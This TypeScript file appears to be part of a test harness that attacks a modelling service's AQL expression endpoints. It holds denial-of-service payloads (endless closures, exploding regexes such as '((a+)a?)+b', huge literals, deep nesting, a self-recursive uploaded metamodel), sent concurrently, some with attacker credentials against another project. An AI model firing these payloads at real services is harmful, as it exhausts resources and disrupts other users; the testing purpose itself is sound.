/** Attacks by expressions: that never end, multiply everything, grow, explode in patterns, or are too long or too deep. */
import type { Attack } from '../attack.ts';
import { crowd, Statuses } from '../statuses.ts';
import type { Victim } from '../target.ts';

const everything = 'ecore::EObject.allInstances()';
const letters = (count: number) => `'${'a'.repeat(count)}'`;

/** Each is evaluated, checked and completed, by those who are signed in and by others. */
const hostile: Readonly<Record<string, string>> = {
  'that never end': 'Sequence{1}->closure(n | n + 1)->size()',
  'that multiply everything four times': `${everything}->collect(a | ${everything}->collect(b | ${everything}->collect(c | ${everything})))->size()`,
  'of operations that call themselves': 'endless::Loop.allInstances()->collect(l | l.again(1))',
  'of texts that grow': `Sequence{'ab'}->closure(s | s + s)->size()`,
  'of patterns that explode': `${letters(60)}.matches('((a+)a?)+b') or ${letters(60)}.matches('(a|a)*b')`,
  'of patterns that are slow': `${letters(4_000)}.replaceAll('a*a*b', '')`,
  'of one megabyte': `Sequence{${'1,'.repeat(500_000)}1}`,
  'of 100,000 characters': `Sequence{${'1,'.repeat(49_000)}1}->sum()`,
  'with 10,000 parentheses': `${'('.repeat(10_000)}1${')'.repeat(10_000)}`,
  'with very many types': `let a = ${manyTypes()}, b = a in Sequence{1}->sep(a, b, a, b)`,
};

export const expressionAttacks: readonly Attack[] = Object.entries(hostile).map(([what, expression]) => ({
  name: `expressions ${what}`,
  run: async (victim, end) => {
    await makeRecursion(victim);
    const statuses = new Statuses();
    await crowd(callers, end, (caller) => statuses.count(asked(victim, expression, caller, end)));
    return String(statuses);
  },
}));

const callers = 12;
const ways = ['expression-evaluations', 'expression-evaluations', 'expression-diagnostics', 'expression-proposals'];

function asked({ url, projectId, attacked, attacker }: Victim, expression: string, caller: number, signal: AbortSignal) {
  const isOwn = caller % 3 > 0;
  const path = `${url}/api/projects/${isOwn ? attacked : projectId}/${ways[caller % ways.length]}`;
  const headers = { 'content-type': 'application/json', ...(isOwn && attacker) };
  return fetch(path, { method: 'POST', headers, body: JSON.stringify({ language: 'aql', expression }), signal });
}

function manyTypes(): string {
  const nested = Array.from({ length: 60 }, (_, at) => `Sequence{${'Sequence{'.repeat(at % 20)}1${'}'.repeat(at % 20)}}`);
  return `Sequence{${nested.join(', ')}, 'a', 1.0, true, null}->first()`;
}

const again = `<eOperations name="again"><eAnnotations source="http://www.eclipse.org/acceleo/query/1.0"><details key="body" value="self.again(n + 1) + self.again(n + 2)"/></eAnnotations><eParameters name="n" eType="ecore:EDataType http://www.eclipse.org/emf/2002/Ecore#//EInt"/></eOperations>`;
const metamodel = `<ecore:EPackage xmi:version="2.0" xmlns:xmi="http://www.omg.org/XMI" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:ecore="http://www.eclipse.org/emf/2002/Ecore" name="endless" nsURI="http://endless" nsPrefix="endless"><eClassifiers xsi:type="ecore:EClass" name="Loop">${again}</eClassifiers></ecore:EPackage>`;
const loops = `<xmi:XMI xmi:version="2.0" xmlns:xmi="http://www.omg.org/XMI" xmlns:endless="http://endless">${'<endless:Loop/>'.repeat(500)}</xmi:XMI>`;

/** Once; the second time their names are taken. */
async function makeRecursion({ url, attacked, attacker }: Victim): Promise<void> {
  for (const [name, content] of Object.entries({ 'endless.ecore': metamodel, 'loops.xmi': loops })) {
    const form = new FormData();
    form.append('entity', new Blob([JSON.stringify({ projectId: attacked, name })], { type: 'application/json' }));
    form.append('content', new Blob([content]), name);
    const answer = await fetch(`${url}/api/models`, { method: 'POST', headers: attacker, body: form });
    await answer.arrayBuffer();
    if (answer.status !== 201 && answer.status !== 409) throw new Error(`POST /api/models: ${answer.status}`);
  }
}
